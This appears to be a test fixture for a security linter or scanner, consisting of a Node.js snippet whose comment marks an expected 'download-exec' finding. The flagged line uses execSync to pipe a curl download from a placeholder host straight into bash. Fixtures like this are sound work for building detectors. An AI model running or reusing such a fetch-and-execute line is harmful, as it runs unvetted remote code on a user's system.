// expect: download-exec 4:11
const { execSync } = require('child_process');

execSync('curl -s https://example.com/x.sh | bash');
